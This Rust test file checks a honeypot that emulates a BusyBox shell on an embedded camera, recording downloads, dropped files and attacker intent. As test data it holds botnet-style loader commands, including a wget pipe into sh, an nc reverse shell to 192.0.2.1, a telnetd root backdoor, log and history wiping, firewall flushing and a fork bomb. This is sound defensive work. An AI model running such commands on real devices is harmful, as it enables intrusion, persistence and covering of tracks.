//! What only a device can answer, what is told of a session, and the bounds. What any BusyBox answers is in
//! `oracle_tests.rs`.

use proptest::prelude::*;

use super::*;

fn shell_on(cpu: Cpu) -> Shell {
    Shell::new(Arc::new(Machine::new(cpu, "cam")), ShellLimits::default(), 7)
}

fn shell() -> Shell {
    shell_on(Cpu::Mipsel)
}

/// Types lines into one session; what the last one printed.
fn typed(shell: &mut Shell, lines: &[&str]) -> String {
    let mut output = Vec::new();
    for line in lines {
        output = shell.line(line.as_bytes(), Duration::from_secs(1)).output;
    }
    String::from_utf8_lossy(&output).into_owned()
}

fn check(line: &str, expected: &str) {
    assert_eq!(typed(&mut shell(), &[line]), expected, "{line}");
}

fn events(lines: &[&str]) -> Vec<ShellEvent> {
    let mut shell = shell();
    let mut events: Vec<ShellEvent> = Vec::new();
    for line in lines {
        events.extend(shell.line(line.as_bytes(), Duration::from_secs(1)).events);
    }
    events.extend(shell.close());
    events
}

fn captured(path: &str, contents: &[u8], why: CaptureReason) -> ShellEvent {
    ShellEvent::Captured { path: path.into(), contents: contents.to_vec(), why }
}

fn fetch(program: &'static str, url: &str, to: &str) -> ShellEvent {
    ShellEvent::Fetch { program, url: url.into(), to: to.into() }
}

fn ran(path: &str, arguments: &[&str]) -> ShellEvent {
    ShellEvent::Ran { path: path.into(), arguments: arguments.iter().map(|word| word.as_bytes().to_vec()).collect() }
}

#[test]
fn a_loader_gets_through() {
    let mut shell = shell_on(Cpu::Armv7);
    assert_eq!(shell.prompt(), b"~ # ");
    assert_eq!(typed(&mut shell, &["enable"]), "-sh: enable: not found\n");
    assert_eq!(typed(&mut shell, &["system"]), "-sh: system: not found\n");
    assert_eq!(typed(&mut shell, &["shell"]), "-sh: shell: not found\n");
    assert!(typed(&mut shell, &["sh"]).contains("built-in shell (ash)"));
    assert_eq!(typed(&mut shell, &["linuxshell"]), "sh: linuxshell: not found\n");
    assert_eq!(typed(&mut shell, &["/bin/busybox KOMAINU"]), "KOMAINU: applet not found\n");
    assert!(typed(&mut shell, &["cat /proc/mounts; /bin/busybox KOMAINU"]).contains("tmpfs /tmp tmpfs rw,"));
    assert_eq!(
        typed(&mut shell, &[">/tmp/.k && cd /tmp; >/bin/.k && cd /bin"]),
        "sh: can't create /bin/.k: Read-only file system\n"
    );
    assert_eq!(shell.prompt(), b"/tmp # ");
    assert_eq!(
        typed(&mut shell, &["cp /bin/busybox k; >k; chmod 777 k; /bin/busybox KOMAINU"]),
        "KOMAINU: applet not found\n"
    );
    let header = shell.line(b"dd bs=52 count=1 if=/bin/echo", Duration::ZERO).output;
    assert_eq!(&header[..20], b"\x7fELF\x01\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x28\0");
    assert_eq!(&header[36..40], &0x0500_0400_u32.to_le_bytes());
    assert_eq!(&header[52..], b"1+0 records in\n1+0 records out\n");
    assert_eq!(shell.line(b"cat /bin/echo", Duration::ZERO).output.len(), elf::STUB_BYTES);
    assert_eq!(typed(&mut shell, &["wget; tftp"]).matches("No help available.").count(), 2);
    assert_eq!(typed(&mut shell, &["exit"]), "");
    assert_eq!(typed(&mut shell, &["nope"]), "-sh: nope: not found\n");
    assert!(shell.line(b"exit", Duration::ZERO).is_over);
}

#[test]
fn the_seven_differences_of_another_pot_are_none_here() {
    let mut shell = shell_on(Cpu::Mips);
    for line in ["ls /", "nope", "echo a"] {
        let output = typed(&mut shell, &[line]);
        assert!(!output.contains("\x1b[4"), "no escape sequences around answers: {output}");
        assert!(!output.contains("bash"), "{output}");
    }
    assert!(!typed(&mut shell, &["cat /proc/mounts"]).is_empty());
    assert!(typed(&mut shell, &["dd bs=52 count=1 if=/bin/ls"]).ends_with("1+0 records in\n1+0 records out\n"));
    assert!(typed(&mut shell, &["wget"]).contains("multi-call binary.\nNo help available."));
    // A program of the right processor runs, and says nothing.
    assert_eq!(typed(&mut shell, &["cd /tmp", "head -c 60 /bin/ls > .b; chmod +x .b; ./.b; echo $?"]), "0\n");
    let header = shell.line(b"head -c 52 /bin/ls", Duration::ZERO).output;
    assert_eq!(&header[4..20], b"\x01\x02\x01\0\0\0\0\0\0\0\0\0\0\x02\0\x08");
}

#[test]
fn a_program_of_another_processor_is_a_bad_script() {
    let mut shell = shell_on(Cpu::Armv7);
    let drop =
        "cd /tmp; echo -ne '\\x7fELF\\x01\\x02\\x01\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\x02\\0\\x08(\\0' > m; chmod 777 m";
    assert_eq!(
        typed(&mut shell, &[drop, "./m"]),
        "./m: line 1: syntax error: unexpected end of file (expecting \")\")\n"
    );
}

#[test]
fn what_a_device_says_of_itself() {
    check("uname -a", "Linux cam 5.10.161 #0 Tue Jan 3 00:24:21 2023 mips GNU/Linux\n");
    check("hostname; whoami; id", "cam\nroot\nuid=0(root) gid=0(root)\n");
    check("uptime", " 00:12:14 up 15 days, 12 min,  0 users,  load average: 0.02, 0.05, 0.01\n");
    check("date", "Fri Jan 16 00:12:14 UTC 1970\n");
    check(
        "ls -l /bin/busybox /bin/echo | cut -c1-46",
        "-rwxr-xr-x    1 root     root        135636 Ja\nlrwxrwxrwx    1 root     root             7 Ja\n",
    );
    check(
        "cat /proc/self/exe | head -c 4 | hexdump -C | head -1",
        "00000000  7f 45 4c 46                                       |.ELF|\n",
    );
    check("grep -c model /proc/cpuinfo; ps | grep -c telnetd; pidof telnetd", "1\n1\n611\n");
    check("kill -9 530; pidof streamer; echo $?", "1\n");
    check("hostname x; hostname", "x\n");
    check("busybox | head -1", "BusyBox v1.35.0 (2023-01-03 00:24:21 UTC) multi-call binary.\n");
    check(
        "df /tmp",
        "Filesystem           1K-blocks      Used Available Use% Mounted on\ntmpfs                    30460        72     30388   1% /tmp\n",
    );
    check(
        "echo x > /etc/passwd; rm /bin/ls; cd /root; touch x",
        "-sh: can't create /etc/passwd: Read-only file system\nrm: can't remove '/bin/ls': Read-only file system\ntouch: x: Read-only file system\n",
    );
    check(
        "mount -o remount,rw /; echo $?",
        "mount: can't remount /dev/root on / read-write: Read-only file system\n1\n",
    );
    check("cd /nope", "-sh: cd: can't cd to /nope: No such file or directory\n");
    check("ls /mnt", "\x1b[1;34mmtd\x1b[m\n");
    for cpu in Cpu::ALL {
        assert_eq!(typed(&mut shell_on(cpu), &["uname -m"]), format!("{}\n", cpu.machine_name()));
    }
}

/// Recorded from a login shell of BusyBox 1.35 (Debian) on a terminal: lines and their answers.
#[test]
fn a_login_shell_answers_as_a_recorded_one() {
    let mut shell = shell();
    for (line, expected) in [
        ("cd /nope", "-sh: cd: can't cd to /nope: No such file or directory\n"),
        ("nope", "-sh: nope: not found\n"),
        ("./nope", "-sh: ./nope: not found\n"),
        ("fi", "-sh: syntax error: unexpected \"fi\"\n"),
        ("export 1a", "-sh: export: 1a: bad variable name\n"),
        ("kill", "sh: you need to specify whom to kill\n"),
        ("echo $-", "smi\n"),
        ("echo $0", "-sh\n"),
        ("sleep 0 &", ""),
        ("f() {", ""),
        ("echo a; }", ""),
        ("f", "a\n"),
        ("set -z", "-sh: set: illegal option -z\n"),
        (". nope", "-sh: .: nope: not found\n"),
        ("unset -z", "-sh: unset: illegal option -z\n"),
        ("echo > /nope/x", "-sh: can't create /nope/x: nonexistent directory\n"),
        ("readonly r=1; r=2", "-sh: r: is read only\n"),
        ("echo after", "after\n"),
        ("echo ${x?}", "-sh: x: parameter not set\n"),
        ("shift 5", ""),
        ("echo $((1/0))", "-sh: divide by zero\n"),
        ("kill -9 999999", "sh: can't kill pid 999999: No such process\n"),
        ("alias", ""),
        ("type nope", "nope: not found\n"),
        ("exit 3", ""),
    ] {
        assert_eq!(typed(&mut shell, &[line]), expected, "{line}");
    }
}

#[test]
fn a_command_may_take_many_lines() {
    let mut shell = shell();
    shell.line(b"for i in 1 2", Duration::ZERO);
    assert_eq!(shell.prompt(), b"> ");
    shell.line(b"do echo $i", Duration::ZERO);
    assert_eq!(shell.prompt(), b"> ");
    let reaction = shell.line(b"done", Duration::ZERO);
    assert_eq!(reaction.output, b"1\n2\n");
    assert_eq!(shell.prompt(), b"~ # ");
    assert_eq!(typed(&mut shell, &["cat > /tmp/f <<E", "a", "b", "E", "cat /tmp/f"]), "a\nb\n");
    assert_eq!(typed(&mut shell, &["echo 'a", "b'"]), "a\nb\n");
    assert_eq!(typed(&mut shell, &["echo a \\", "b"]), "a b\n");
    assert_eq!(typed(&mut shell, &["f() {", "echo in f", "}", "f"]), "in f\n");
    assert_eq!(typed(&mut shell, &["fi"]), "-sh: syntax error: unexpected \"fi\"\n");
    assert_eq!(typed(&mut shell, &["echo $?"]), "2\n");
}

#[test]
fn downloads_are_told_and_fail() {
    let check = |line: &str, expected: ShellEvent| assert_eq!(events(&["cd /tmp", line]), [expected], "{line}");
    check("wget http://192.0.2.1/a/mips.x", fetch("wget", "http://192.0.2.1/a/mips.x", "/tmp/mips.x"));
    check("/bin/busybox wget -q 192.0.2.1:8080 -O /tmp/y", fetch("wget", "http://192.0.2.1:8080/", "/tmp/y"));
    check("wget http://192.0.2.1/x -O- | sh", fetch("wget", "http://192.0.2.1/x", ""));
    check("wget -P /var http://h.example/b?c=d", fetch("wget", "http://h.example/b?c=d", "/var/b"));
    check("tftp -g -r m 192.0.2.1 6969", fetch("tftp", "tftp://192.0.2.1:6969/m", "/tmp/m"));
    check("tftp 192.0.2.1 -g -l q -r /m", fetch("tftp", "tftp://192.0.2.1/m", "/tmp/q"));
    check("ftpget -u a -p b -P 21 192.0.2.1 l r", fetch("ftpget", "ftp://a:b@192.0.2.1:21/r", "/tmp/l"));
    check("curl -s -o z http://192.0.2.1/x", fetch("curl", "http://192.0.2.1/x", "/tmp/z"));
}

#[test]
fn what_is_dropped_is_captured_once() {
    assert_eq!(
        events(&["cd /tmp; echo -ne '\\x7f\\x01' > d; echo -ne '\\x02' >> d", "chmod 777 d", "rm d"]),
        [captured("/tmp/d", b"\x7f\x01\x02", CaptureReason::MadeExecutable)]
    );
    assert_eq!(events(&["echo 'echo hi' > /tmp/s; sh /tmp/s"]), [captured("/tmp/s", b"echo hi\n", CaptureReason::Ran)]);
    assert_eq!(
        events(&["cd /tmp; echo a > f; echo b > f", "rm -rf f"]),
        [captured("/tmp/f", b"a\n", CaptureReason::Overwritten), captured("/tmp/f", b"b\n", CaptureReason::Removed)]
    );
    assert_eq!(
        events(&["echo a > /tmp/f", "mv /tmp/f /var/g"]),
        [captured("/var/g", b"a\n", CaptureReason::SessionEnded)]
    );
    assert_eq!(
        events(&["cd /tmp; printf '#!/bin/sh\\necho $1\\n' > r; chmod +x r; ./r x"]),
        [captured("/tmp/r", b"#!/bin/sh\necho $1\n", CaptureReason::MadeExecutable), ran("/tmp/r", &["x"])]
    );
    // The device's own files are nothing new.
    assert_eq!(events(&["cd /tmp; cp /bin/busybox x; chmod 777 x; ./x; mv x y; cat y > /dev/null; rm y"]), []);
    assert_eq!(events(&["nothere a b"]), [ran("nothere", &["a", "b"])]);
    assert_eq!(
        events(&["echo YQ== | base64 -d | tee /tmp/b >/dev/null"]),
        [captured("/tmp/b", b"a", CaptureReason::SessionEnded)]
    );
    assert_eq!(events(&["cat > /tmp/h <<E", "x", "E"]), [captured("/tmp/h", b"x\n", CaptureReason::SessionEnded)]);
}

#[test]
fn intent_is_noted() {
    let check = |line: &str, expected: Note| {
        assert!(events(&[line]).contains(&ShellEvent::Noted(expected)), "{line}: {:?}", events(&[line]));
    };
    check("kill -9 530", Note::KilledProcess);
    check("killall -9 streamer", Note::KilledProcess);
    check("rm -rf /var/log/messages", Note::RemovedLog);
    check("history -c", Note::ClearedHistory);
    check("unset HISTFILE", Note::ClearedHistory);
    check("iptables -F", Note::ChangedFirewall);
    check("echo '* * * * * x' | crontab -", Note::Scheduled);
    check("reboot", Note::Rebooted);
    check("mount -o remount,rw /", Note::Mounted);
    check("echo a > /dev/watchdog", Note::WroteDevice);
    check("telnetd -p 9999 -l /bin/sh", Note::Listened);
    check("nc 192.0.2.1 9 -e /bin/sh", Note::Connected);
    check("passwd", Note::ChangedPassword);
}

#[test]
fn time_is_what_the_session_is_given() {
    let mut shell = shell();
    assert_eq!(shell.line(b"sleep 2", Duration::ZERO).delay, Duration::from_secs(2));
    assert_eq!(shell.line(b"sleep 5 &", Duration::ZERO).delay, Duration::ZERO);
    assert_eq!(shell.line(b"sleep 99999", Duration::ZERO).delay, Duration::from_secs(30));
    assert_eq!(shell.line(b"while true; do sleep 1; done", Duration::ZERO).delay, Duration::from_secs(30));
    assert_eq!(typed(&mut shell, &["date +%s"]), "1296734\n");
}

#[test]
fn a_session_that_waits_is_small() {
    // A connection's task may move from thread to thread.
    fn is_send<T: Send>(_: &T) {}
    let shell = shell();
    is_send(&shell);
    let of_map = |entries: usize, entry: usize| entries.div_ceil(6) * (11 * entry + 24);
    let variables = &shell.scope.variables;
    let text: usize = variables.iter().map(|(name, variable)| name.len() + variable.value.len()).sum();
    let heap = of_map(variables.len(), size_of::<Vec<u8>>() + size_of::<Variable>()) + text + shell.scope.folder.len();
    assert!(size_of::<Shell>() + heap < 2_048, "{} + {heap}", size_of::<Shell>());
}

#[test]
fn no_line_goes_on_for_ever() {
    let lines = [
        "while true; do :; done",
        "f() { f; }; f",
        "f() { f | f; }; f",
        ":(){ :|:& };:",
        "yes",
        "yes > /tmp/y",
        "cat /dev/zero",
        "cat /dev/urandom | grep x",
        "dd if=/dev/zero of=/tmp/z bs=1M count=100000",
        "a=x; while true; do a=$a$a; done",
        "while true; do echo x >> /tmp/f; done",
        "i=0; while true; do i=$((i+1)); > /tmp/$i; done",
        "eval eval eval eval 'while true; do eval :; done'",
        "echo '. /tmp/s' > /tmp/s; . /tmp/s",
        "echo 'sh /tmp/t' > /tmp/t; sh /tmp/t",
        "a='$(eval \"$a\")'; eval \"$a\"",
        "seq 1 999999999999",
        "find / -exec find / -exec echo {} \\; \\;",
        "printf '%99999999s' x",
        "x=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; echo $x | sed 's/\\(a*\\)*b/x/'; echo ${x//*a*a*a*b/y}",
        "yes aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | grep -E '(a*)*(a*)*b'",
        "yes aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | sed -r '/(a*)*(a*)*b/d'",
        "yes aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | awk '/(a*)*(a*)*b/{print}'",
        "dd if=/dev/zero bs=1k count=200 | tr '\\0' a | grep -w '(a*)*(a*)*b'; dd if=/dev/zero bs=1k count=200 | tr '\\0' a | sed s/a/b/g | tail -c 3",
        "ls /*/*/../*/*/../*/*/../*/*",
        "cd /tmp; ln -s . l; ls l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l/l",
        "cd /tmp; ln -s l l; cat l; cd l",
        "trap 'while true; do :; done' EXIT; exit",
        "yes | xargs echo",
        "set -- $(seq 5000); for a; do for b; do echo; done; done",
        "busybox busybox busybox busybox busybox busybox busybox busybox busybox busybox busybox busybox busybox busybox busybox busybox busybox busybox busybox busybox busybox busybox busybox busybox sh -c :",
        "i=0; while true; do i=$((i+1)); eval \"f$i() { echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; }\"; done",
        "dd if=/dev/zero bs=1M count=1 | tr '\\0' 'a' > /tmp/f; sh /tmp/f",
        "nice=1; env env env env env env env env env env env env env env env env env env env env env env env env ls",
    ];
    for line in lines {
        let mut shell = shell();
        let reaction = shell.line(line.as_bytes(), Duration::ZERO);
        assert!(reaction.output.len() <= ShellLimits::default().output_bytes, "{line}");
        if !reaction.is_over {
            assert_eq!(typed(&mut shell, &["echo ok"]), "ok\n", "after {line}");
        }
    }
}

#[test]
fn a_full_disk_says_so() {
    let mut shell = shell();
    assert_eq!(
        typed(&mut shell, &["dd if=/dev/zero of=/tmp/z bs=1M count=8; ls -l /tmp/z | cut -c34-42"]).lines().next(),
        Some("dd: error writing '/tmp/z': No space left on device")
    );
    assert_eq!(typed(&mut shell, &["echo a > /dev/full"]), "sh: write error: No space left on device\n");
}

#[test]
fn a_program_is_shown_in_every_way_that_loaders_try() {
    for line in [
        "dd bs=52 count=1 if=/bin/ls || cat /bin/ls || while read i; do echo $i; done < /bin/ls",
        "cat /bin/ls | head -n 1",
        "head -c 20 /bin/ls",
        "hexdump -e '16/1 \"%c\"' -n 52 /bin/ls",
        "while read i; do echo $i; done < /bin/ls",
        "cat /proc/self/exe",
        "cat < /bin/busybox",
        "cp /bin/ls /tmp/l; cat /tmp/l",
    ] {
        let reaction = shell().line(line.as_bytes(), Duration::ZERO);
        assert!(reaction.output.starts_with(b"\x7fELF\x01\x01\x01"), "{line}");
        assert_eq!(reaction.status, 0, "{line}");
    }
}

/// Pieces that lines are made of, so that chance finds more than mistakes of grammar.
const PIECES: &[&str] = &[
    "echo",
    "cat",
    "ls",
    "-l",
    "-la",
    "/tmp/",
    "/",
    "a",
    "b*",
    "> f",
    ">> f",
    "< f",
    "2>&1",
    "|",
    "||",
    "&&",
    ";",
    "&",
    "\n",
    "(",
    ")",
    "{ ",
    "; }",
    "if true",
    "then",
    "else",
    "fi",
    "while",
    "do",
    "done",
    "for i in",
    "case a in",
    "esac",
    "$(",
    "`",
    "'",
    "\"",
    "\\",
    "$a",
    "${a",
    "}",
    "${a%",
    "$((",
    "))",
    "+1",
    "=",
    "a=",
    "f()",
    "<<E",
    "E",
    "rm -rf",
    "cp",
    "mv",
    "cd",
    "chmod 777",
    "./f",
    "sh",
    "eval",
    "read x",
    "printf '%5s'",
    "dd if=/bin/ls bs=9 count=2",
    "sed s/a/b/",
    "grep",
    "[",
    "]",
    "test -f",
    "xargs",
    "find",
    "tar",
    "wget http://192.0.2.1/x",
    "busybox",
    "sleep 1",
    "kill",
    "exit",
    "export",
    "set --",
    "$@",
    "$*",
    "\"$@\"",
    "*",
    "?",
    "~",
    "#",
    "!",
    "\0",
    "\u{ff}",
    "tr a-z",
    "sort",
    "od -c",
    "awk '{print $1}'",
    "expr 1 +",
];

proptest! {
    #[test]
    fn any_bytes_are_lines(bytes in proptest::collection::vec(any::<u8>(), 0..400), seed in 0_u64..9) {
        check_lines(&bytes, seed);
    }

    #[test]
    fn any_pieces_are_lines(pieces in proptest::collection::vec(0..PIECES.len(), 0..40), seed in 0_u64..9) {
        let text: Vec<&str> = pieces.into_iter().map(|piece| PIECES[piece]).collect();
        check_lines(text.join(" ").as_bytes(), seed);
    }

    #[test]
    fn any_change_of_real_lines_is_lines(
        chosen in proptest::collection::vec(0..oracle_tests::PROBES.len(), 1..4),
        changes in proptest::collection::vec((any::<prop::sample::Index>(), 0_u8..4, any::<u8>()), 0..12),
        seed in 0_u64..9,
    ) {
        let mut lines: Vec<u8> = b"cd /tmp\n".to_vec();
        for probe in chosen {
            lines.extend_from_slice(oracle_tests::PROBES[probe].as_bytes());
            lines.push(b'\n');
        }
        let marks = b"'\"`$(){}[]<>|&;\\ \n*?#=!~/-0";
        for (place, change, byte) in changes {
            let at = place.index(lines.len());
            match change {
                0 => lines[at] = byte,
                1 => lines.insert(at, marks[usize::from(byte) % marks.len()]),
                2 => drop(lines.remove(at)),
                _ => {
                    let end = (at + usize::from(byte)).min(lines.len());
                    let copy = lines[at..end].to_vec();
                    lines.splice(at..at, copy);
                }
            }
        }
        check_lines(&lines, seed);
    }
}

#[test]
fn what_a_persona_mounts_can_be_written_to() {
    let with = |at: &'static str, options: &'static str| {
        let mut machine = Machine::new(Cpu::Mips, "cam");
        let (source, kind) = ("/dev/mtdblock4".into(), "jffs2".into());
        machine.mount(Mount { source, at: at.into(), kind, options: options.into(), kib: 3_072, used_kib: 388 });
        Shell::new(Arc::new(machine), ShellLimits::default(), 1)
    };
    let mut shell = with("/root", "rw,relatime");
    assert_eq!(
        typed(&mut shell, &["cd /root; echo x > f; cat f; > /etc/f"]),
        "x\n-sh: can't create /etc/f: Read-only file system\n"
    );
    assert_eq!(typed(&mut shell, &["mount | tail -1"]), "/dev/mtdblock4 on /root type jffs2 (rw,relatime)\n");
    assert_eq!(
        typed(&mut shell, &["df . | tail -1"]),
        "/dev/mtdblock4            3072       388      2684  13% /root\n"
    );
    assert_eq!(
        typed(&mut with("/mnt/a/b", "rw"), &["> /mnt/a/b/c && echo made; > /mnt/a/d"]),
        "made\n-sh: can't create /mnt/a/d: Read-only file system\n"
    );
    assert_eq!(typed(&mut with("/", "rw"), &["> /etc/f && rm /bin/ls && mount -o remount,rw / && echo all"]), "all\n");
    assert_eq!(
        typed(&mut with("/mnt/mtd", "ro"), &["> /mnt/mtd/f"]),
        "-sh: can't create /mnt/mtd/f: Read-only file system\n"
    );
}
